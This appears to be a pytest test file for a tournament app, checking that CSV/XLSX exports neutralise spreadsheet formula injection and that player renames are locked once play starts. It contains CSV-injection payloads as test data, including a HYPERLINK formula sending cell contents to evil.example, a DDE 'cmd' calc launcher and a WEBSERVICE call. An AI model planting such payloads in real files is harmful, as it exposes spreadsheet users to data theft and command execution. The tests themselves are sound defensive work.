"""Issue 16.1: no export cell is ever a live spreadsheet formula, and a registered player can no
longer rename themself into one after the tournament has started."""

import csv
import io
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient
from standings_builders import make_players, make_tournament, register, scores_game

from core.models import AuditEntry
from tests.factories import StaffRoleFactory, UserFactory
from tournaments.ema.export import ema_csv, ema_xlsx
from tournaments.models import StaffRole, Tournament
from tournaments.seating import plan_to_csv
from tournaments.spreadsheet import csv_cell, is_formula_like
from tournaments.standings.exports import standings_csv
from tournaments.standings.services import recompute_standings

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PAYLOADS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_formula_prefix_is_neutralised_in_a_csv_cell(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [12, -12, 1.5, "-12.5", "+3", "45.3", "Anna", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def _tournament_with_evil_names():
    t = make_tournament(name="=cmd|' /C calc'!A0", city="@Berlin", status="finished")
    players = make_players(8, countries=("DE", "FR"))
    players[0].first_name = EVIL
    players[0].last_name = "-Minus"
    players[0].save()
    players[1].first_name = "+Plus"
    players[1].last_name = "@At"
    players[1].save()
    register(t, players)
    a, b, c, d, e, f, g, h = players
    scores_game(t, 1, 1, [a, b, c, d], [45300, 30000, 25000, 19700])
    scores_game(t, 1, 2, [e, f, g, h], [40000, 30000, 30000, 20000])
    recompute_standings(tournament_id=t.pk)
    return t, players


def _all_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_ema_csv_writes_names_with_a_leading_apostrophe_and_numbers_as_numbers():
    t, _ = _tournament_with_evil_names()
    cells = _all_cells(ema_csv(t, force=True))
    assert "'" + EVIL in cells
    assert "'-Minus" in cells and "'+Plus" in cells and "'@At" in cells
    # No cell starts with a formula prefix; negative points stay numbers ("-10.3" etc).
    for cell in cells:
        assert not is_formula_like(cell), cell
    rows = list(csv.reader(io.StringIO(ema_csv(t, force=True))))
    scores = [row[5] for row in rows[1:]]
    assert any(s.startswith("-") for s in scores)  # a negative score, not neutralised
    for s in scores:
        float(s)


def test_standings_csv_writes_no_formula():
    t, _ = _tournament_with_evil_names()
    cells = _all_cells(standings_csv(t))
    assert "'" + EVIL in cells
    assert any(c.startswith("-") and c[1:].replace(".", "").isdigit() for c in cells)
    for cell in cells:
        assert not is_formula_like(cell), cell


def test_public_standings_csv_download_writes_no_formula():
    t, _ = _tournament_with_evil_names()
    t.status = Tournament.Status.PUBLISHED
    t.save()
    response = Client().get(f"/t/{t.slug}/standings.csv")
    assert response.status_code == 200
    assert f'"\'{EVIL.replace(chr(34), chr(34) * 2)}"' in response.content.decode()


def test_ema_xlsx_has_no_formula_and_keeps_numbers():
    t, _ = _tournament_with_evil_names()
    data = ema_xlsx(t, force=True)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # the probe found <f>HYPERLINK(...)</f>
    ws = load_workbook(io.BytesIO(data)).active
    values = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    evil = values[EVIL]
    assert evil.data_type == "s" and evil.quotePrefix
    assert values["=cmd|' /C calc'!A0"].data_type == "s"
    assert values["@Berlin"].data_type == "s"
    assert values["-Minus"].data_type == "s"
    # Points are still numbers (a negative one included).
    # The EMA workbook (issue 20): table points and score in columns G and H from row 2.
    numbers = [c.value for row in ws.iter_rows(min_row=2) for c in row[6:8]]
    assert all(isinstance(v, int | float) for v in numbers)
    assert any(v < 0 for v in numbers)


def test_seating_plan_csv_stays_numbers():
    assert plan_to_csv([[[0, 1, 2, 3]]]) == "round,table,east,south,west,north\n1,1,1,2,3,4\n"


# --- a player's identity is fixed once the tournament runs (issue 16.1) ----------------------


def _registered_user_player(status):
    t = make_tournament(status=status)
    (player,) = make_players(1)
    user = UserFactory()
    player.user = user
    player.save()
    register(t, [player])
    return t, player, user


def _api(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.mark.parametrize("status", ["running", "finished", "published"])
@pytest.mark.parametrize(
    ("field", "value"),
    [("first_name", '=WEBSERVICE("http://evil.example")'), ("ema_number", "12345678")],
)
def test_a_player_cannot_change_their_identity_once_the_tournament_runs(status, field, value):
    _, player, user = _registered_user_player(status)
    response = _api(user).patch(f"/api/v1/players/{player.pk}/", {field: value}, format="json")
    assert response.status_code == 403, response.content
    assert response.json()["field"] == field
    assert "ask its organiser" in response.json()["message"]
    player.refresh_from_db()
    assert getattr(player, field) != value


def test_before_the_tournament_runs_and_for_the_country_the_player_still_can():
    t, player, user = _registered_user_player("registration")
    response = _api(user).patch(
        f"/api/v1/players/{player.pk}/", {"first_name": "Anja"}, format="json"
    )
    assert response.status_code == 200
    t.status = Tournament.Status.RUNNING
    t.save()
    same = _api(user).patch(
        f"/api/v1/players/{player.pk}/",
        {"first_name": "Anja", "country": "FR"},
        format="json",
    )
    assert same.status_code == 200  # the name unchanged, only the country
    assert same.json()["country"] == "FR"


def test_the_organiser_corrects_a_registered_players_name_audited():
    t, player, _ = _registered_user_player("published")
    organiser = StaffRoleFactory(tournament=t, role=StaffRole.Role.ORGANISER).user
    response = _api(organiser).patch(
        f"/api/v1/players/{player.pk}/", {"first_name": "Corrected"}, format="json"
    )
    assert response.status_code == 200, response.content
    log = AuditEntry.objects.filter(action="player.update", object_id=str(player.pk)).get()
    assert log.after["first_name"] == "Corrected"
    assert log.actor_id == organiser.pk
    # An organiser of another tournament may not.
    stranger = StaffRoleFactory(
        tournament=make_tournament(slug="other"), role=StaffRole.Role.ORGANISER
    ).user
    refused = _api(stranger).patch(
        f"/api/v1/players/{player.pk}/", {"first_name": "Nope"}, format="json"
    )
    assert refused.status_code == 403
